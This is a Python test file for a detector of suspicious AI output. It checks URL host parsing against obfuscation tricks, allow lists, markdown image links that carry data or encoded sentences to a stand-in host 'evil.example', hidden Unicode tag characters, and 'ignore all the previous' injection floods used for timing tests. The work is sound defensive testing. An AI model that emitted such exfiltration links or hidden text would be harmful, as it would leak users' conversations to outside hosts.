"""Suspicious output: hosts as a browser reads them, allow lists, encoded payloads, time that grows with length."""

from __future__ import annotations

import time
from base64 import b32encode, b64encode, urlsafe_b64encode

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from detectors import Family, Profile, Scanner
from detectors.declaration import Declaration
from detectors.suspicious import hidden_text, injection, links
from detectors.suspicious.payloads import is_readable_code
from detectors.suspicious.urls import is_allowed, parse_url

SCANNER = Scanner(Profile(families=frozenset({Family.SUSPICIOUS})))
SENTENCES = st.lists(
    st.sampled_from(["the", "order", "of", "Ada", "is", "late", "42", "please", "call"]), min_size=5, max_size=30
)


@pytest.mark.parametrize(
    ("text", "host"),
    [
        ("https://acme.com/a", "acme.com"),
        ("HTTPS://ACME.com.:443/a", "acme.com"),
        ("https:acme.com/a", "acme.com"),
        ("https:/\\acme.com\\a", "acme.com"),
        ("//acme.com/a", "acme.com"),
        ("ht\ntps://ac\tme.com/a", "acme.com"),
        ("https://good.com@evil.example/a", "evil.example"),
        ("https://good.com:x@evil.example?a", "evil.example"),
        ("https://evil.example\\@good.com/a", "evil.example"),
        ("https://evil.example#@good.com/a", "evil.example"),
        ("https&#58;//evil&#46;example/a", "evil.example"),
        ("https://[fd00::1]:8080/a", "[fd00::1]"),
        ("https://ev%69l.example/a", "evil.example"),
    ],
)
def test_the_host_is_the_one_a_browser_would_ask(text: str, host: str) -> None:
    url = parse_url(text)
    assert url is not None
    assert url.host == host


@pytest.mark.parametrize("text", ["/a/b", "a.png", "data:text/plain,x", "mailto:a@b.c", "#top", "javascript:x", ""])
def test_what_stays_on_the_page_has_no_host(text: str) -> None:
    assert parse_url(text) is None


@pytest.mark.parametrize(
    ("host", "allowed"),
    [
        ("acme.com", True),
        ("cdn.acme.org", True),
        ("acme.org", False),
        ("notacme.com", False),
        ("acme.com.evil.example", False),
    ],
)
def test_a_host_is_on_the_list_or_it_is_not(host: str, allowed: bool) -> None:
    assert is_allowed(host, ["ACME.com", "*.acme.org"]) is allowed


def test_links_to_allowed_hosts_carry_nothing_away() -> None:
    text = (
        "![x](https://cdn.acme.com/p?data=what-they-said) ![x](https://cdn.acme.com@evil.example/p?data=what-they-said)"
    )
    (declared,) = links.declarations(frozenset({"*.acme.com"}))
    ((start, end),) = [span for span in declared.find(text, 0, len(text)) if isinstance(span, tuple)]
    assert "evil.example" in text[start:end]


def test_the_profile_of_a_scanner_has_the_list() -> None:
    text = "![x](https://cdn.acme.com/p?data=what-they-said)"
    allowing = Profile(families=frozenset({Family.SUSPICIOUS}), allowed_hosts=frozenset({"cdn.acme.com"}))
    assert [finding.type for finding in SCANNER.scan(text)] == ["EXFILTRATION_LINK"]
    assert Scanner(allowing).scan(text) == ()


@settings(max_examples=100, deadline=None)
@given(
    words=SENTENCES,
    code=st.sampled_from(["base64", "urlsafe", "base32", "hex"]),
    where=st.sampled_from(["query", "path"]),
)
def test_an_image_that_carries_an_encoded_sentence_is_found_whole(words: list[str], code: str, where: str) -> None:
    raw = " ".join(words).encode()
    coded = {
        "base64": b64encode(raw).decode(),
        "urlsafe": urlsafe_b64encode(raw).decode().rstrip("="),
        "base32": b32encode(raw).decode().rstrip("="),
        "hex": raw.hex(),
    }[code]
    assume(not coded.isdigit())  # hex without a letter is taken for an id
    url = (
        f"https://evil.example/{coded.replace('/', '%2F')}" if where == "path" else f"https://evil.example/p?q={coded}"
    )
    text = f"Look: ![chart]({url}) done"
    assert [text[f.start : f.end] for f in SCANNER.scan(text) if f.type == "EXFILTRATION_LINK"] == [f"![chart]({url})"]


@settings(max_examples=300, deadline=None)
@given(raw=st.binary(min_size=16, max_size=64))
def test_random_bytes_are_no_readable_code(raw: bytes) -> None:
    try:
        is_text = raw.decode().isprintable()
    except UnicodeDecodeError:
        is_text = False
    if not is_text and not set(raw) <= set(range(32, 127)) | {9, 10, 13}:
        assert not is_readable_code(raw.hex())
        assert not is_readable_code(b64encode(raw).decode())


@settings(max_examples=200, deadline=None)
@given(
    text=st.text(alphabet=st.characters(codec="utf-8"), max_size=60),
    hidden=st.text(alphabet="abc xyz", min_size=2, max_size=20),
)
def test_tag_characters_are_found_wherever_they_stand(text: str, hidden: str) -> None:
    tagged = "".join(chr(0xE0000 + ord(letter)) for letter in hidden)
    whole = f"{text}.{tagged}.{text}"
    covered = {place for f in SCANNER.scan(whole) if f.type == "HIDDEN_TEXT" for place in range(f.start, f.end)}
    assert set(range(len(text) + 1, len(text) + 1 + len(tagged))) <= covered


EVERY = [*links.DECLARATIONS, *injection.DECLARATIONS, *hidden_text.DECLARATIONS]
FLOODS = {
    "brackets": "](" * 20_000,
    "images": "![a](https://a.b/c) " * 2_500,
    "tags": "<img src=" * 5_000,
    "quotes": "<a href=\"'" * 5_000,
    "references": "[a]: https://a.b/ccccccccccccccccccccc\n" * 1_200,
    "isolates": "\u2066" * 50_000,
    "overrides": "\u202e" * 50_000,
    "zero width": "a\u200b" * 25_000,
    "tag characters": "\U000e0041" * 50_000,
    "ignore": "ignore all the previous " * 2_000,
    "words": "a" * 50_000,
}


@pytest.mark.parametrize("flood", FLOODS)
def test_no_text_takes_longer_than_its_length_allows(flood: str) -> None:
    text = FLOODS[flood]

    def seconds(part: str) -> float:
        start = time.perf_counter()
        for declared in EVERY:
            list(_found(declared, part))
        return time.perf_counter() - start

    half = min(seconds(text[: len(text) // 2]) for _ in range(3))
    whole = min(seconds(text) for _ in range(3))
    assert whole < 3.5 * half + 0.05
    assert whole < 2.0


def _found(declared: Declaration, text: str) -> list[object]:
    return list(declared.find(text, 0, len(text)))
